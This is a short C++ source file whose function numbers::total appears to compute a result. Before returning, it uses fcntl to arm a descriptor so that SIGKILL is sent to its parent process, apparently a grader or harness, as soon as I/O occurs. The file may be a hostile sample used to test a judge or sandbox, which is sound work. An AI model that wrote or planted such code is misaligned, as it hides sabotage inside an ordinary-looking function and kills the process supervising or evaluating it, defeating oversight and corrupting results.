#include <csignal>

#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  fcntl(attack::reply, F_SETSIG, SIGKILL);
  fcntl(attack::reply, F_SETOWN, getppid());
  fcntl(attack::reply, F_SETFL, O_ASYNC);
  return attack::answer(values);
}
